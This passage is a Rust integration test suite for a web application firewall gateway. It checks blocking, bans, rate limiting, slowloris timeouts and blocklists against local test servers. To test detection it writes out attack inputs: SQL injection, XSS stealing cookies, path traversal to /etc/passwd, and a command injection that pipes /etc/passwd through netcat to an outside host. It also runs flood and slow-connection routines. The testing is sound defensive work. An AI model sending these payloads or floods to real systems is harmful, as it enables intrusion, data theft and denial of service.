//! The gateway end to end: a real upstream on 127.0.0.1, the gateway in front of it with the
//! OWASP CRS, and the Qalxan server receiving its block events.

#![allow(clippy::unwrap_used)] // A test that cannot unwrap should fail loudly.

mod common;

use axum::body::Bytes;
use axum::routing::any;
use common::TestServer;
use qalxan_core::Role;
use qalxan_gateway::{Config, ServerLink, Site, WafMode};
use reqwest::StatusCode;
use serde_json::Value;
use std::path::Path;
use std::time::Duration;

const CRS: &str = "/usr/share/modsecurity-crs/rules";

/// A one-rule set: any argument containing "evil" is denied.
const EVIL_RULE: &str = "SecRule ARGS \"@contains evil\" \"id:1,phase:2,deny\"\n";

/// An upstream that says what it received.
async fn upstream() -> String {
    let app = axum::Router::new().fallback(any(|uri: axum::http::Uri, body: Bytes| async move {
        format!("upstream saw {} with {} body bytes", uri, body.len())
    }));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    format!("http://{addr}")
}

async fn gateway(config: Config) -> String {
    gateway_with_admin(config).await.0
}

/// A gateway with its admin API; returns (proxy URL, admin URL).
async fn gateway_with_admin(mut config: Config) -> (String, String) {
    config.admin = Some("127.0.0.1:0".parse().unwrap());
    let gw = qalxan_gateway::Gateway::start(config, None).await.unwrap();
    let urls = (
        format!("http://{}", gw.addresses()[0].0),
        format!("http://{}", gw.admin_address().unwrap()),
    );
    tokio::spawn(gw.serve(std::future::pending()));
    urls
}

/// One site in front of `upstream`.
fn site_config(upstream: &str, waf: WafMode, rules: Option<std::path::PathBuf>) -> Config {
    let site = Site {
        waf,
        rules,
        ..Site::new("test", qalxan_gateway::upstream_uri(upstream).unwrap())
    };
    Config::new("127.0.0.1:0".parse().unwrap(), vec![site])
}

fn client() -> reqwest::Client {
    reqwest::Client::builder()
        .user_agent("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
        .build()
        .unwrap()
}

#[tokio::test]
async fn crs_blocks_attacks_with_a_reference_and_reports_them() {
    if !Path::new(CRS).is_dir() {
        eprintln!("SKIPPED: Debian's modsecurity-crs is not installed");
        return;
    }
    let server = TestServer::start().await;
    let token = server.token(Role::Sensor, None).await;
    let institution = server.institution("Ministry of Digital Development").await;
    let logs = tempfile::tempdir().unwrap();
    let up = upstream().await;
    let gw = gateway(Config {
        server: Some(ServerLink {
            url: server.base.clone(),
            token,
            institution_id: Some(institution.0),
        }),
        access_log: Some(logs.path().join("access.log")),
        audit_log: Some(logs.path().join("audit.log")),
        ..site_config(&up, WafMode::Block, None)
    })
    .await;
    let c = client();

    let r = c
        .get(format!("{gw}/news/2026/budget.html?page=2&sort=date"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(
        r.text().await.unwrap(),
        "upstream saw /news/2026/budget.html?page=2&sort=date with 0 body bytes"
    );

    let mut references = Vec::new();
    for attack in [
        "/item.php?id=1%27%20OR%20%271%27%3D%271",
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        "/download.php?file=..%2F..%2F..%2Fetc%2Fpasswd",
    ] {
        let r = c.get(format!("{gw}{attack}")).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::FORBIDDEN, "{attack}");
        let reference = r.headers()["x-qalxan-reference"]
            .to_str()
            .unwrap()
            .to_owned();
        let page = r.text().await.unwrap();
        assert!(
            page.contains(&reference),
            "the page shows the reference: {page}"
        );
        references.push(reference);
    }
    // The same URL with a harmless value passes.
    let r = c.get(format!("{gw}/item.php?id=42")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);

    let r = c
        .post(format!("{gw}/contact"))
        .form(&[
            ("name", "x"),
            ("msg", ";cat /etc/passwd|nc 198.51.100.1 4444"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let r = c
        .post(format!("{gw}/upload"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body([b"data=".as_slice(), &vec![b'a'; 300 * 1024 - 5]].concat())
        .send()
        .await
        .unwrap();
    assert_eq!(
        r.status(),
        StatusCode::OK,
        "a body past the inspection limit streams through"
    );
    assert_eq!(
        r.text().await.unwrap(),
        "upstream saw /upload with 307200 body bytes"
    );
    let r = c
        .get(format!("{gw}/item.php?id=1%27%20OR%20%271%27%3D%271"))
        .header("accept", "application/json")
        .send()
        .await
        .unwrap();
    let blocked: Value = r.json().await.unwrap();
    assert_eq!(blocked["error"], "request blocked");

    // The server learns of every block, tied to the institution, with the reference.
    let analyst = server.api(&server.token(Role::Analyst, None).await);
    let mut seen = Vec::new();
    for _ in 0..100 {
        let (_, page) = analyst.get("/api/v1/events?kind=waf.blocked").await;
        seen = page["items"].as_array().unwrap().clone();
        if seen.len() >= 5 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(seen.len(), 5, "{seen:?}");
    assert!(seen
        .iter()
        .all(|e| e["institution_id"] == institution.0 && e["source"] == "token:sensor-token"));
    for reference in &references {
        let event = seen
            .iter()
            .find(|e| e["attributes"]["reference"] == reference.as_str())
            .unwrap();
        assert!(
            event["attributes"]["rules"]
                .as_array()
                .unwrap()
                .iter()
                .any(|r| r == 949110),
            "{event}"
        );
    }
    let (_, overview) = analyst.get("/api/v1/overview").await;
    assert_eq!(overview["series"][0]["kind"], "waf.blocked");
    assert_eq!(overview["series"][0]["total"], 5);

    let access = std::fs::read_to_string(logs.path().join("access.log")).unwrap();
    let lines: Vec<Value> = access
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 8);
    assert_eq!(lines.iter().filter(|l| l["waf"] == "blocked").count(), 5);
    let audit = std::fs::read_to_string(logs.path().join("audit.log")).unwrap();
    assert!(
        audit.contains("\"ruleId\":\"942100\""),
        "the SQLi block is in the audit log"
    );
}

#[tokio::test]
async fn detect_mode_logs_but_lets_requests_through() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules.conf");
    std::fs::write(
        &rules,
        "SecRule ARGS \"@rx (?i)union\\s+select\" \"id:1001,phase:2,deny,t:urlDecodeUni,msg:'SQLi'\"\n",
    )
    .unwrap();
    let up = upstream().await;
    let audit = dir.path().join("audit.log");
    let gw = gateway(Config {
        audit_log: Some(audit.clone()),
        ..site_config(&up, WafMode::Detect, Some(rules.clone()))
    })
    .await;
    let r = client()
        .get(format!("{gw}/?q=1%20UNION%20SELECT%20pw"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(std::fs::read_to_string(&audit)
        .unwrap()
        .contains("\"ruleId\":\"1001\""));

    let blocking = gateway(Config {
        ..site_config(&up, WafMode::Block, Some(rules))
    })
    .await;
    let r = client()
        .get(format!("{blocking}/?q=1%20UNION%20SELECT%20pw"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);

    let off = gateway(Config {
        ..site_config(&up, WafMode::Off, None)
    })
    .await;
    let r = client()
        .get(format!("{off}/?q=1%20UNION%20SELECT%20pw"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
}

#[tokio::test]
async fn a_rule_file_with_an_error_is_refused_with_its_place() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("bad.conf");
    std::fs::write(
        &rules,
        "SecRule ARGS \"@rx a\" \"id:1,phase:2,deny\"\nSecRule ARGZ \"@rx b\" \"id:2\"\n",
    )
    .unwrap();
    let err = qalxan_gateway::load_plan(Some(&rules), WafMode::Block, 1)
        .err()
        .unwrap()
        .to_string();
    assert!(
        err.contains("bad.conf:2:9: unknown variable 'ARGZ'"),
        "{err}"
    );
}

#[tokio::test]
async fn the_gateway_command_serves_and_unreachable_upstreams_answer_502() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules.conf");
    std::fs::write(&rules, EVIL_RULE).unwrap();
    let up = upstream().await;
    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_qalxan"))
        .args([
            "gateway",
            "--listen",
            "127.0.0.1:0",
            "--upstream",
            &up,
            "--rules",
        ])
        .arg(&rules)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    use tokio::io::AsyncBufReadExt;
    let mut lines = tokio::io::BufReader::new(child.stdout.take().unwrap()).lines();
    let line = tokio::time::timeout(Duration::from_secs(60), lines.next_line())
        .await
        .unwrap()
        .unwrap()
        .unwrap();
    let gw = line
        .split("gateway on ")
        .nth(1)
        .unwrap()
        .split(' ')
        .next()
        .unwrap()
        .trim_end_matches('/')
        .to_owned();
    assert_eq!(
        client()
            .get(format!("{gw}/?a=fine"))
            .send()
            .await
            .unwrap()
            .status(),
        StatusCode::OK
    );
    assert_eq!(
        client()
            .get(format!("{gw}/?a=evil"))
            .send()
            .await
            .unwrap()
            .status(),
        StatusCode::FORBIDDEN
    );

    let nowhere = gateway(Config {
        ..site_config("http://127.0.0.1:9", WafMode::Off, None)
    })
    .await;
    let r = client().get(format!("{nowhere}/")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::BAD_GATEWAY);
}

fn client_from(ip: [u8; 4]) -> reqwest::Client {
    reqwest::Client::builder()
        .local_address(std::net::IpAddr::from(ip))
        .build()
        .unwrap()
}

#[tokio::test]
async fn a_flooding_client_is_limited_then_banned_while_others_are_served() {
    let server = TestServer::start().await;
    let token = server.token(Role::Sensor, None).await;
    let up = upstream().await;
    let (gw, admin) = gateway_with_admin(Config {
        server: Some(ServerLink {
            url: server.base.clone(),
            token,
            institution_id: None,
        }),
        limits: qalxan_gateway::Limits {
            rate: Some((20.0, 20.0)),
            ban: Some(qalxan_gateway::BanPolicy {
                strikes: 40,
                window: Duration::from_secs(60),
                duration: Duration::from_secs(600),
            }),
            ..qalxan_gateway::Limits::default()
        },
        ..site_config(&up, WafMode::Off, None)
    })
    .await;

    // A well-behaved client at 10 requests per second, from its own address.
    let calm = {
        let gw = gw.clone();
        tokio::spawn(async move {
            let c = client_from([127, 0, 0, 3]);
            let mut ok = 0;
            for _ in 0..30 {
                if c.get(format!("{gw}/"))
                    .send()
                    .await
                    .is_ok_and(|r| r.status() == StatusCode::OK)
                {
                    ok += 1;
                }
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
            ok
        })
    };
    // A flood from another: 400 requests as fast as 8 connections go.
    let mut flood = Vec::new();
    for _ in 0..8 {
        let gw = gw.clone();
        flood.push(tokio::spawn(async move {
            let c = client_from([127, 0, 0, 2]);
            let mut statuses = Vec::new();
            for _ in 0..50 {
                match c.get(format!("{gw}/")).send().await {
                    Ok(r) => statuses.push(r.status().as_u16()),
                    Err(_) => statuses.push(0),
                }
            }
            statuses
        }));
    }
    let mut statuses = Vec::new();
    for f in flood {
        statuses.extend(f.await.unwrap());
    }
    let count = |s: u16| statuses.iter().filter(|x| **x == s).count();
    assert!(
        count(200) <= 100,
        "the flood got {} answers through",
        count(200)
    );
    assert!(
        count(429) > 0 && count(403) > 0,
        "limited, then banned: {statuses:?}"
    );
    assert_eq!(
        calm.await.unwrap(),
        30,
        "the other client kept being served"
    );

    let c = client();
    let bans: Value = c
        .get(format!("{admin}/bans"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(bans[0]["ip"], "127.0.0.2", "{bans}");
    let metrics = metrics(&admin).await;
    assert!(metrics.contains("qalxan_gateway_bans_total 1"), "{metrics}");

    // The server learns of the flood and the ban.
    let analyst = server.api(&server.token(Role::Analyst, None).await);
    let mut ddos = Value::Null;
    for _ in 0..100 {
        let (_, page) = analyst.get("/api/v1/events?kind=ddos.detected").await;
        if page["items"].as_array().is_some_and(|i| !i.is_empty()) {
            ddos = page["items"][0].clone();
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(ddos["attributes"]["client_ip"], "127.0.0.2", "{ddos}");
    assert!(
        ddos["value"].as_i64().unwrap() >= 20,
        "the peak rate: {ddos}"
    );
    let (_, banned) = analyst.get("/api/v1/events?kind=gateway.banned").await;
    assert_eq!(banned["items"].as_array().unwrap().len(), 1);

    // Lifting the ban lets the address back in.
    let r = c
        .delete(format!("{admin}/bans/127.0.0.2"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::NO_CONTENT);
    tokio::time::sleep(Duration::from_millis(200)).await;
    let r = client_from([127, 0, 0, 2])
        .get(format!("{gw}/"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let r = c
        .delete(format!("{admin}/bans/127.0.0.2"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn repeated_attacks_earn_a_ban() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules.conf");
    std::fs::write(&rules, EVIL_RULE).unwrap();
    let up = upstream().await;
    let gw = gateway(Config {
        limits: qalxan_gateway::Limits {
            ban: Some(qalxan_gateway::BanPolicy {
                strikes: 3,
                window: Duration::from_secs(60),
                duration: Duration::from_secs(60),
            }),
            ..qalxan_gateway::Limits::default()
        },
        ..site_config(&up, WafMode::Block, Some(rules))
    })
    .await;
    let attacker = client_from([127, 0, 0, 4]);
    for _ in 0..3 {
        let r = attacker.get(format!("{gw}/?q=evil")).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::FORBIDDEN);
        assert!(r.headers().contains_key("x-qalxan-reference"));
    }
    // Now even a harmless request from that address is refused, on a new connection too.
    let r = client_from([127, 0, 0, 4])
        .get(format!("{gw}/?q=fine"))
        .send()
        .await;
    assert!(r.is_err() || r.unwrap().status() == StatusCode::FORBIDDEN);
    let r = client_from([127, 0, 0, 5])
        .get(format!("{gw}/?q=fine"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
}

#[tokio::test]
async fn slow_clients_are_cut_off_and_do_not_stop_others() {
    use tokio::io::AsyncWriteExt;
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules.conf");
    std::fs::write(&rules, EVIL_RULE).unwrap();
    let up = upstream().await;
    let (gw, admin) = gateway_with_admin(Config {
        header_timeout: Duration::from_secs(1),
        body_timeout: Duration::from_secs(1),
        // Small, so that bodies stream past what the WAF reads first.
        inspect_limit: 16,
        lists_every: None,
        limits: qalxan_gateway::Limits {
            ban: Some(qalxan_gateway::BanPolicy {
                strikes: 3,
                window: Duration::from_secs(60),
                duration: Duration::from_secs(60),
            }),
            ..qalxan_gateway::Limits::default()
        },
        ..site_config(&up, WafMode::Block, Some(rules))
    })
    .await;
    let addr = gw.trim_start_matches("http://").to_owned();
    // 500 slowloris connections: a request line and then nothing.
    let mut slow = Vec::new();
    for _ in 0..500 {
        let mut s = tokio::net::TcpStream::connect(&addr).await.unwrap();
        s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            .await
            .unwrap();
        slow.push(s);
    }
    // A normal client is served meanwhile.
    for _ in 0..20 {
        let r = client().get(format!("{gw}/?q=fine")).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::OK);
    }
    // After the timeout every slow connection has been closed by the gateway.
    tokio::time::sleep(Duration::from_millis(2500)).await;
    let mut closed = 0;
    for mut s in slow {
        use tokio::io::AsyncReadExt;
        let mut buf = [0u8; 512];
        match tokio::time::timeout(Duration::from_millis(200), s.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => closed += 1,
            Ok(Ok(_)) => closed += 1, // an error response, then the close
            Err(_) => {}
        }
    }
    assert_eq!(closed, 500);

    // A slow POST: headers promise a body that trickles in too slowly.
    let mut s = tokio::net::TcpStream::connect(&addr).await.unwrap();
    s.write_all(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\na=").await.unwrap();
    use tokio::io::AsyncReadExt;
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut answer)).await;
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");

    // Past the inspected part, a body that keeps trickling (never silent for the timeout,
    // but far below the minimum rate of 500 bytes a second) is cut off too, and its
    // connection closed.
    let post = |length: usize| {
        format!("POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nContent-Length: {length}\r\n\r\n0123456789abcdef")
    };
    let mut s = tokio::net::TcpStream::connect(&addr).await.unwrap();
    s.write_all(post(1000).as_bytes()).await.unwrap();
    let started = std::time::Instant::now();
    let trickle = async {
        loop {
            tokio::time::sleep(Duration::from_millis(200)).await;
            if s.write_all(b"xxxxx").await.is_err() {
                break;
            }
        }
    };
    let _ = tokio::time::timeout(Duration::from_secs(5), trickle).await;
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut answer)).await;
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(started.elapsed() < Duration::from_secs(5));

    // A body that takes longer than the timeout but comes faster than the minimum rate
    // earns the time it needs: 2 s at 5,000 bytes a second.
    let mut s = tokio::net::TcpStream::connect(&addr).await.unwrap();
    s.write_all(post(16 + 10_000).as_bytes()).await.unwrap();
    for _ in 0..10 {
        tokio::time::sleep(Duration::from_millis(200)).await;
        s.write_all(&[b'y'; 1000]).await.unwrap();
    }
    let mut answer = vec![0; 4096];
    let n = tokio::time::timeout(Duration::from_secs(5), s.read(&mut answer))
        .await
        .unwrap()
        .unwrap();
    let answer = String::from_utf8_lossy(&answer[..n]);
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(answer.contains("with 10016 body bytes"), "{answer}");

    // Every slow body is a strike: the third bans the address; others are still served.
    let mut s = tokio::net::TcpStream::connect(&addr).await.unwrap();
    s.write_all(post(1000).as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut answer)).await;
    assert!(answer.starts_with(b"HTTP/1.1 408"));
    let r = client().get(format!("{gw}/?q=fine")).send().await;
    assert!(r.is_err() || r.unwrap().status() == StatusCode::FORBIDDEN);
    let r = client_from([127, 0, 0, 2])
        .get(format!("{gw}/?q=fine"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);

    let metrics = metrics(&admin).await;
    assert!(
        metrics.contains("qalxan_gateway_requests_total{outcome=\"too_slow\"} 3\n"),
        "{metrics}"
    );
}

/// Rules that count per client across requests (ModSecurity's persistent collections) work
/// behind the gateway: the fourth login attempt within a minute from one address is refused
/// and its connection closed (`drop`), while another address still gets through.
#[tokio::test]
async fn rules_count_per_client_across_requests() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules.conf");
    std::fs::write(
        &rules,
        "SecAction \"id:1,phase:1,pass,nolog,initcol:ip=%{remote_addr}\"\n\
         SecRule REQUEST_FILENAME \"@streq /login\" \"id:2,phase:1,pass,nolog,setvar:ip.tries=+1,expirevar:ip.tries=60\"\n\
         SecRule IP:TRIES \"@gt 3\" \"id:3,phase:1,drop,msg:'login attempts: %{ip.tries}'\"\n",
    )
    .unwrap();
    let up = upstream().await;
    let (gw, admin) = gateway_with_admin(site_config(&up, WafMode::Block, Some(rules))).await;
    let from = |ip: [u8; 4]| {
        let c = client_from(ip);
        let url = format!("{gw}/login");
        async move { c.post(url).body("user=a&pass=b").send().await.unwrap() }
    };
    for _ in 0..3 {
        assert_eq!(from([127, 0, 0, 6]).await.status(), StatusCode::OK);
    }
    let refused = from([127, 0, 0, 6]).await;
    assert_eq!(refused.status(), StatusCode::FORBIDDEN);
    assert_eq!(refused.headers()["connection"], "close");
    assert_eq!(from([127, 0, 0, 7]).await.status(), StatusCode::OK);
    // Other pages do not count, and are refused to the counted address as well.
    let page = client_from([127, 0, 0, 7])
        .get(format!("{gw}/news"))
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), StatusCode::OK);
    let page = client_from([127, 0, 0, 6])
        .get(format!("{gw}/news"))
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), StatusCode::FORBIDDEN);

    // The admin API shows what the rules count, and forgetting a record lets the client in.
    let records: serde_json::Value = client()
        .get(format!("{admin}/collections/ip"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let counted = records
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["key"] == "127.0.0.6")
        .unwrap_or_else(|| panic!("{records}"));
    assert_eq!(counted["vars"]["tries"], "4", "{counted}");
    let forget = |key: &str| {
        client()
            .delete(format!("{admin}/collections/ip/{key}"))
            .send()
    };
    assert_eq!(
        forget("127.0.0.6").await.unwrap().status(),
        StatusCode::NO_CONTENT
    );
    assert_eq!(
        forget("127.0.0.6").await.unwrap().status(),
        StatusCode::NOT_FOUND
    );
    assert_eq!(from([127, 0, 0, 6]).await.status(), StatusCode::OK);
}

/// A blocking indicator added on the server is enforced by a running gateway within seconds,
/// the block is reported, and the indicator's sightings count it.
#[tokio::test]
async fn blocklist_from_the_server_is_enforced_within_seconds() {
    let server = TestServer::start().await;
    let sensor = server.token(Role::Sensor, None).await;
    let analyst = server.api(&server.token(Role::Analyst, None).await);
    let up = upstream().await;
    let gw = gateway(Config {
        server: Some(ServerLink {
            url: server.base.clone(),
            token: sensor,
            institution_id: None,
        }),
        lists_every: Some(Duration::from_millis(500)),
        ..site_config(&up, WafMode::Off, None)
    })
    .await;
    let c = client();
    let get = |host: &'static str, path: &'static str| {
        let c = c.clone();
        let gw = gw.clone();
        async move {
            c.get(format!("{gw}{path}"))
                .header("Host", host)
                .send()
                .await
                .unwrap()
                .status()
        }
    };
    assert_eq!(get("shop.phish.example", "/").await, StatusCode::OK);
    assert_eq!(
        get("portal.example", "/payload/x.exe").await,
        StatusCode::OK
    );

    let added = std::time::Instant::now();
    for value in ["phish.example", "http://portal.example/payload/x.exe"] {
        let (status, body) = analyst
            .post(
                "/api/v1/intel/indicators",
                &serde_json::json!({"value": value, "tlp": "green"}),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
    }
    // The two indicators were added by two requests: a pull may fall between them, so wait
    // until the list holds both.
    let mut enforced = false;
    while added.elapsed() < Duration::from_secs(10) {
        if get("shop.phish.example", "/").await == StatusCode::FORBIDDEN
            && get("portal.example", "/payload/x.exe").await == StatusCode::FORBIDDEN
        {
            enforced = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(
        enforced,
        "the gateway did not enforce the new indicators within 10 s"
    );
    eprintln!(
        "enforced {} ms after the indicators were added",
        added.elapsed().as_millis()
    );
    assert_eq!(get("portal.example", "/other").await, StatusCode::OK);

    // The blocks arrive as events and count as sightings of the indicator.
    let mut sighted = 0;
    for _ in 0..50 {
        let (_, m) = analyst.get("/api/v1/intel/match?value=phish.example").await;
        sighted = m["matches"][0]["sightings"].as_i64().unwrap_or(0);
        if sighted >= 1 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert!(sighted >= 1, "no sighting recorded");
    let (_, events) = analyst.get("/api/v1/events?kind=waf.blocked").await;
    assert!(
        events.to_string().contains("\"blocklist\":\"domain\""),
        "{events}"
    );
}

/// An upstream that names itself, with a health endpoint answering `health` (a status code).
async fn named_upstream(
    name: &'static str,
    health: std::sync::Arc<std::sync::atomic::AtomicU16>,
) -> String {
    use std::sync::atomic::Ordering;
    let app =
        axum::Router::new()
            .route(
                "/healthz",
                any(move || {
                    let health = health.clone();
                    async move {
                        axum::http::StatusCode::from_u16(health.load(Ordering::Relaxed)).unwrap()
                    }
                }),
            )
            .fallback(any(
                move |uri: axum::http::Uri, headers: axum::http::HeaderMap| async move {
                    let xff = headers
                        .get("x-forwarded-for")
                        .and_then(|v| v.to_str().ok())
                        .unwrap_or("-")
                        .to_owned();
                    format!("{name} saw {uri} for {xff}")
                },
            ));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    format!("http://{addr}")
}

fn healthy() -> std::sync::Arc<std::sync::atomic::AtomicU16> {
    std::sync::Arc::new(std::sync::atomic::AtomicU16::new(200))
}

/// A port nothing listens on.
fn dead_port() -> String {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    format!("http://{}", l.local_addr().unwrap())
}

async fn get_host(gw: &str, host: &str, path: &str) -> (StatusCode, String) {
    let r = client()
        .get(format!("{gw}{path}"))
        .header("host", host)
        .send()
        .await
        .unwrap();
    (r.status(), r.text().await.unwrap())
}

#[tokio::test]
async fn a_config_file_routes_sites_by_host_and_path_to_upstream_pools() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("rules.conf"), EVIL_RULE).unwrap();
    let a = named_upstream("A", healthy()).await;
    let b = named_upstream("B", healthy()).await;
    let api = named_upstream("API", healthy()).await;
    let sick_health = healthy();
    let sick = named_upstream("SICK", sick_health.clone()).await;
    let down = dead_port();
    let file = dir.path().join("gateway.toml");
    std::fs::write(
        &file,
        format!(
            r#"
trusted_proxies = ["127.0.0.1"]
[[listen]]
address = "127.0.0.1:0"
[admin]
listen = "127.0.0.1:0"
[waf]
rules = "rules.conf"
[[site]]
name = "portal"
hosts = ["portal.test", "*.portal.test"]
upstreams = ["{a}", "{b}"]
[[site]]
name = "api"
hosts = ["portal.test"]
path = "/api"
upstreams = ["{api}"]
waf = "off"
[[site]]
name = "shop"
hosts = ["shop.test"]
upstreams = ["{down}", "{a}"]
max_fails = 2
fail_timeout = 60
[[site]]
name = "news"
hosts = ["news.test"]
upstreams = ["{sick}", "{b}"]
balance = "least-conn"
[site.health_check]
path = "/healthz"
interval = 0.2
fall = 2
rise = 2
"#
        ),
    )
    .unwrap();
    let config = Config::from_file(&file).unwrap();
    let gw = qalxan_gateway::Gateway::start(config, Some(file.clone()))
        .await
        .unwrap();
    let base = format!("http://{}", gw.addresses()[0].0);
    let admin = format!("http://{}", gw.admin_address().unwrap());
    tokio::spawn(gw.serve(std::future::pending()));

    // Round-robin over the portal's pool; the API prefix goes to its own pool.
    let mut seen = Vec::new();
    for _ in 0..4 {
        let (status, body) = get_host(&base, "portal.test", "/news").await;
        assert_eq!(status, StatusCode::OK);
        seen.push(body.split(' ').next().unwrap().to_owned());
    }
    seen.sort();
    assert_eq!(seen, ["A", "A", "B", "B"]);
    let (_, body) = get_host(&base, "www.portal.test", "/api/v1/items").await;
    assert!(
        body.starts_with("A ") || body.starts_with("B "),
        "the wildcard host has no /api site: {body}"
    );
    let (_, body) = get_host(&base, "portal.test", "/api/v1/items").await;
    assert!(body.starts_with("API saw /api/v1/items"), "{body}");
    let (_, body) = get_host(&base, "portal.test", "/apix").await;
    assert!(!body.starts_with("API"), "{body}");
    // Each site has its own WAF mode.
    assert_eq!(
        get_host(&base, "portal.test", "/?q=evil").await.0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        get_host(&base, "portal.test", "/api?q=evil").await.0,
        StatusCode::OK
    );
    // No site for the host.
    assert_eq!(
        get_host(&base, "elsewhere.test", "/").await.0,
        StatusCode::MISDIRECTED_REQUEST
    );

    // A trusted proxy's X-Forwarded-For names the client, and the chain goes on to the upstream.
    let r = client()
        .get(format!("{base}/"))
        .header("host", "portal.test")
        .header("x-forwarded-for", "198.51.100.23")
        .send()
        .await
        .unwrap();
    assert!(r
        .text()
        .await
        .unwrap()
        .ends_with("for 198.51.100.23, 127.0.0.1"));

    // A server that is down: GETs are retried on the next one, and after max_fails it is out.
    for _ in 0..6 {
        let (status, body) = get_host(&base, "shop.test", "/").await;
        assert_eq!(status, StatusCode::OK);
        assert!(body.starts_with("A saw"));
    }
    let sites: Value = client()
        .get(format!("{admin}/sites"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let shop = sites
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "shop")
        .unwrap();
    assert_eq!(shop["servers"][0]["ejected"], true, "{shop}");
    assert_eq!(
        shop["servers"][0]["failures"], 2,
        "taken out after two failures: {shop}"
    );

    // Failing health checks take a server out; passing ones bring it back.
    sick_health.store(503, std::sync::atomic::Ordering::Relaxed);
    tokio::time::sleep(Duration::from_millis(1000)).await;
    for _ in 0..6 {
        let (_, body) = get_host(&base, "news.test", "/").await;
        assert!(body.starts_with("B saw"), "{body}");
    }
    let metrics = metrics(&admin).await;
    assert!(
        metrics.contains(&format!(
            "qalxan_gateway_upstream_up{{site=\"news\",server=\"{sick}\"}} 0"
        )),
        "{metrics}"
    );
    sick_health.store(200, std::sync::atomic::Ordering::Relaxed);
    tokio::time::sleep(Duration::from_millis(1000)).await;
    let mut sick_served = false;
    for _ in 0..6 {
        sick_served |= get_host(&base, "news.test", "/")
            .await
            .1
            .starts_with("SICK");
    }
    assert!(sick_served, "back in the pool");
}

/// The gateway binary started with `--config`, and its first listening URL.
async fn gateway_process(file: &Path) -> (tokio::process::Child, String) {
    use tokio::io::AsyncBufReadExt;
    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_qalxan"))
        .args(["gateway", "--config"])
        .arg(file)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut lines = tokio::io::BufReader::new(child.stdout.take().unwrap()).lines();
    loop {
        let line = tokio::time::timeout(Duration::from_secs(60), lines.next_line())
            .await
            .unwrap()
            .unwrap()
            .unwrap();
        if let Some(url) = line.strip_prefix("Qalxan gateway on ") {
